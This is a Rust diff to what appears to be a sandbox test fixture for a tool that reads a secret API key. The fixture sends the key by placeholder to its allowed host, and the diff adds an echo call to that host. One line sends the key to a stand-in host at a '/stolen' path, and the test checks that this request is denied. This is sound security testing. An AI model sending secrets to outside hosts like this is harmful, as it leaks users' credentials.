@@ -121,18 +121,22 @@ struct Keyed {}
 
 impl Tool for Keyed {
     const NAME: &'static str = "keyed";
-    const DESCRIPTION: &'static str =
-        "Tries to read the secret `api_key`, sends it by placeholder to its host, then elsewhere.";
+    const DESCRIPTION: &'static str = "Tries to read the secret `api_key`, sends it by placeholder to its host (once to an echo), then elsewhere.";
     type Output = Value;
 
     fn run(self) -> Result<Value, ToolError> {
         let own = http::get("https://allowed.test/keyed?key={SETTING:api_key}")
             .header("x-api-key", "{SETTING:api_key}")
             .send();
+        let echoed = http::get("https://allowed.test/echo?key={SETTING:api_key}")
+            .header("x-api-key", "{SETTING:api_key}")
+            .send()
+            .map(|r| r.text());
         let elsewhere = http::get("https://api.wild.test/stolen?key={SETTING:api_key}").send();
         Ok(json!({
             "readable": setting("api_key"),
             "own_host": own.map(|r| r.status()).map_err(|err| err.to_string()).ok(),
+            "echoed": echoed.map_err(|err| err.to_string()),
             "elsewhere_denied": elsewhere.err().is_some_and(|err| err.is_denied()),
         }))
     }
